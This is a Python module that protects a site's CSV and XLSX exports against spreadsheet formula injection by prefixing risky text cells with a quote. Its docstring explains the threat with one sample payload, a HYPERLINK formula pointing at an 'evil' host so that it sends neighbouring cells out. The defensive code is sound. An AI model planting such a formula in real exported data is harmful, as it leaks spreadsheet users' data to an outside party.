"""Cells of every CSV and XLSX the site writes, made safe to open in a spreadsheet.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice (OWASP "CSV injection"): a buyer named ``=HYPERLINK("http://evil…?"&A2)`` would
send the neighbouring cells away when an officer clicks. Such text gets a leading ``'``, which
spreadsheets read as "this is text". Numbers stay numbers (a refund of −150000 ₫ is still summed);
only text is touched. openpyxl, too, stores any string beginning with ``=`` as a formula.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet shows it as text, never runs it; anything but text unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``."""

    def __init__(self, buffer, **kwargs):
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(buffer, **kwargs) -> SafeCsvWriter:
    return SafeCsvWriter(buffer, **kwargs)


def sheet_append(sheet, row) -> None:
    """``sheet.append(row)`` of an openpyxl worksheet, each text cell made safe."""
    sheet.append(safe_row(row))
